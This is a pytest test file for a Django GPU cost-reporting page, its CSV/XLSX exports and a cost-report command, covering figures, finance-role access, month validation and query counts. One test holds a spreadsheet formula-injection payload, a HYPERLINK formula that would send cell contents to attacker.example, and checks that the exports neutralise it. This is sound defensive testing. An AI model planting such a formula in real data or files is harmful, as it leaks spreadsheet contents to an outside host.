"""The CFO page /costs/, its CSV/XLSX exports and ``manage.py cost-report``: same figures everywhere."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.management import CommandError, call_command
from django.utils import timezone

from footprint.costs.exports import cost_report_csv, cost_report_xlsx
from footprint.costs.report import cost_report_build
from footprint.findings.models import Finding
from tests.conftest import spec_make
from tests.footprint.costs.test_accrual import LATER, OCT, at, chat, crawl
from tests.footprint.costs.test_capacity import node

pytestmark = pytest.mark.django_db


@pytest.fixture
def fleet(file_source):
    """October: chat (search) 2 → 4 replicas, embed unowned from Oct 21 12:00, one node with idle GPUs,
    one deployment nobody can price, one open waste finding of $150.50/month (and one resolved mid-month)."""
    crawl(file_source, at(10, 1), [chat(2)], [node("n1", requested=2, serving=2)])
    crawl(file_source, at(10, 11), [chat(4)], [node("n1", requested=2, serving=2)])
    crawl(file_source, at(10, 21, 12), [chat(4), spec_make("embed", accelerator="L4", per_replica=1, replicas=1,
                                                            team=None),
                                        spec_make("mystery", accelerator=None, per_replica=None)],
          [node("n1", requested=2, serving=2)])
    Finding.objects.create(rule="waste.wrong_gpu", title="chat could run on L4", severity="medium",
                           fingerprint="f" * 64, key="k", status="open", subject="prod-a/llm/chat",
                           impact_monthly=Decimal("150.50"), impact_basis="by hand", first_seen=at(10, 2),
                           opened_at=at(10, 2), last_seen=at(10, 30))
    Finding.objects.create(rule="waste.idle_gpu_nodes", title="fixed on Oct 15", severity="high",
                           fingerprint="e" * 64, key="k2", status="resolved", subject="prod-a/n9",
                           impact_monthly=Decimal("999.00"), first_seen=at(10, 2), opened_at=at(10, 2),
                           last_seen=at(10, 15), resolved_at=at(10, 15))
    return file_source


def user(name: str, *roles: str) -> User:
    made = User.objects.create_user(name, password="pw")
    made.groups.add(*Group.objects.filter(name__in=roles))
    return made


def report():
    return cost_report_build(month=OCT, now=LATER)


def test_figures_of_the_fleet(fleet):
    r = report()
    # chat: g5.12xlarge node hint, 1/4 of $5.672 per replica: 240 h × 2 × 1.418 + 504 h × 4 × 1.418 = 3539.328
    # embed: 252 h × g6.xlarge $0.8048 = 202.8096
    assert {line.name: line.cost for line in r.lines} == {"chat": Decimal("3539.33"), "embed": Decimal("202.81"),
                                                         "mystery": None}
    assert r.total == Decimal("3742.14") and r.unowned == Decimal("202.81") and r.waste == Decimal("150.50")
    assert r.idle == Decimal("2109.98")       # 2 of the node's 4 GPUs idle: 744 h × $5.672 × 2/4 = 2109.984
    assert [line.name for line in r.unknown] == ["mystery"]


def test_exports_total_the_report(fleet):
    r = report()
    rows = list(csv.DictReader(io.StringIO(cost_report_csv(r))))
    assert sum(Decimal(row["cost_usd"]) for row in rows if row["cost_usd"]) == r.total
    assert {row["workload"]: row["unknown_reason"] for row in rows}["mystery"] == "accelerator unknown"
    book = openpyxl.load_workbook(io.BytesIO(cost_report_xlsx(r)))
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert Decimal(str(summary["Total (USD)"])) == r.total == Decimal("3742.14")
    assert Decimal(str(summary["Waste identified (USD/month)"])) == Decimal("150.50")
    lines = list(book["Lines"].iter_rows(values_only=True))
    assert lines[-1][0] == "Total" and Decimal(str(lines[-1][12])) == r.total
    assert round(sum(Decimal(str(row[12])) for row in lines[1:-1] if row[12] is not None), 2) == r.total
    for dimension in ("team", "model", "cloud", "region", "environment"):
        sheet = list(book[f"By {dimension}"].iter_rows(values_only=True))
        assert round(sum(Decimal(str(row[1])) for row in sheet[1:-1]), 2) == r.total, dimension
    capacity = list(book["GPU capacity"].iter_rows(values_only=True))
    assert Decimal(str(capacity[-1][8])) == r.idle


def test_page_shows_the_month_to_any_signed_in_user(client, fleet):
    response = client.get("/costs/?month=2026-10")
    assert response.status_code == 302 and "login/?next=/costs/" in response["Location"]
    client.force_login(user("vera"))
    response = client.get("/costs/?month=2026-10")
    assert response.status_code == 200
    page = response.content.decode()
    for text in ("Costs · October 2026", "$3,742.14", "(unowned)", "$202.81", "Waste identified", "$150.50",
                 "accelerator unknown", "vendor/plotly.min.js", 'id="by-environment"', "2026-09"):
        assert text in page, text
    assert "export.csv" not in page and "Exports need the finance role" in page
    assert client.get("/costs/export.csv?month=2026-10").status_code == 403
    assert client.get("/costs/export.xlsx?month=2026-10").status_code == 403


def test_finance_downloads_the_exports(client, fleet):
    client.force_login(user("fiona", "finance"))
    page = client.get("/costs/?month=2026-10").content.decode()
    assert "/costs/export.csv?month=2026-10" in page and "/costs/export.xlsx?month=2026-10" in page
    response = client.get("/costs/export.csv?month=2026-10")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="cost-report-2026-10.csv"' in response["Content-Disposition"]
    response = client.get("/costs/export.xlsx?month=2026-10")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames[0] == "Summary"


def test_a_bad_month_is_a_clear_error(client, fleet):
    client.force_login(user("fiona", "finance"))
    response = client.get("/costs/?month=2026-13")
    assert response.status_code == 400 and "is not a month written YYYY-MM" in response.content.decode()
    response = client.get("/costs/export.csv?month=oct")
    assert response.status_code == 400 and "'oct' is not a month" in response.content.decode()


def test_command_writes_every_format(fleet, tmp_path, capsys):
    call_command("cost-report", "--month", "2026-10", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {row["workload"] for row in rows} == {"chat", "embed", "mystery"}
    out = tmp_path / "oct.xlsx"
    call_command("cost-report", "--month", "2026-10", "--format", "xlsx", "--output", str(out))
    summary = {row[0]: row[1] for row in openpyxl.load_workbook(out)["Summary"].iter_rows(values_only=True)}
    assert Decimal(str(summary["Total (USD)"])) == Decimal("3742.14")
    call_command("cost-report", "--month", "2026-10", "--format", "json")
    document = json.loads(capsys.readouterr().out)
    assert document["month"] == "2026-10" and document["total"] == "3742.14"
    assert document["unknown"][0]["reason"] == "accelerator unknown"


@pytest.mark.parametrize("month", ["2026-13", "October", "2026-1", ""])
def test_command_rejects_a_bad_month_with_exit_code_2(db, month):
    with pytest.raises(CommandError, match="is not a month written YYYY-MM") as caught:
        call_command("cost-report", "--month", month)
    assert caught.value.returncode == 2


def test_month_default_is_the_current_month(db, capsys):
    call_command("cost-report", "--format", "json")
    assert json.loads(capsys.readouterr().out)["month"] == timezone.now().strftime("%Y-%m")


def test_page_query_count_does_not_grow_with_the_fleet(client, file_source):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(user("fiona", "finance"))

    def queries(n: int) -> int:
        specs = [spec_make(f"d{i}", cluster=f"c{i % 3}", accelerator="A10G", team=f"t{i % 5}", model=f"m{i % 7}")
                 for i in range(n)]
        crawl(file_source, at(10, 1), specs, [node(f"n{i}", requested=1, serving=1) for i in range(n)])
        with CaptureQueriesContext(connection) as captured:
            assert client.get("/costs/?month=2026-10").status_code == 200
        return len(captured)

    assert queries(3) == queries(30)


def test_exports_never_turn_crawled_names_into_spreadsheet_formulas(file_source):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
    crawl(file_source, at(10, 1), [spec_make("evil", model=evil, accelerator="L4", per_replica=1, replicas=1)], [])
    r = report()
    [row] = list(csv.DictReader(io.StringIO(cost_report_csv(r))))
    assert row["model"] == "'" + evil
    book = openpyxl.load_workbook(io.BytesIO(cost_report_xlsx(r)))
    cells = [cell for sheet in book.worksheets for cells in sheet.iter_rows() for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "'" + evil for cell in cells)


def test_a_running_month_is_compared_with_the_same_days_of_the_previous_one(fleet):
    now = at(11, 3)   # two days into November
    running = cost_report_build(month=date(2026, 11, 1), now=now)
    assert running.previous_partial
    # chat at 4 replicas over Nov 1-3 against Oct 1-3, when it ran 2: the change is not a -90% artefact
    same_days = cost_report_build(month=OCT, now=at(10, 3))
    assert running.previous_total == same_days.total > 0
    assert not cost_report_build(month=OCT, now=LATER).previous_partial
